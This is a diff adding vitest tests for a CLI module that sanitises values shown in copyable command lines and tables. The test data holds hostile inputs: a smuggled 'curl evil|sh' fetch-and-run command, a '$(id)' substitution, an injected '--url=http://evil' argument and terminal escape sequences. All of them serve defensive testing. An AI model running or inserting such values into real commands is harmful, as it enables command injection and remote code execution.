@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { printable, printableJson, printableLines } from "../../../src/cli/printable.ts";
+import { firstLine, plainWord, printable, printableJson, printableLines } from "../../../src/cli/printable.ts";
 
 const HOSTILE = [
   ["an escape sequence", "\u001b[31mred", "\\x1b[31mred"],
@@ -33,4 +33,24 @@ test.each(HOSTILE)("JSON with %s holds no such character and is the same value",
   const json = printableJson({ text }, 2);
   expect(json).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
   expect(JSON.parse(json)).toEqual({ text });
+});
+
+test.each([
+  ["5503fd40-284a-4e81-a28a-be5ae9eaa733", "5503fd40-284a-4e81-a28a-be5ae9eaa733"],
+  ["restart-web_1:a.b", "restart-web_1:a.b"],
+  ["promotion/5503fd40", "promotion/5503fd40"],
+  ["x; curl evil|sh", "ID"],
+  ["$(id)", "ID"],
+  ["--url=http://evil", "ID"],
+  ["~", "ID"],
+  ["a\nb", "ID"],
+  ["a\n", "ID"],
+  ["", "ID"],
+])("of %j a command line that is shown to be copied holds %j", (value, shown) => {
+  expect(plainWord(value, "ID")).toBe(shown);
+});
+
+test("of several lines the first stands in a table", () => {
+  expect(firstLine("payload is wrong\n  at steps")).toBe("payload is wrong ...");
+  expect(firstLine("\u001b[2Jone\n")).toBe("\\x1b[2Jone");
 });
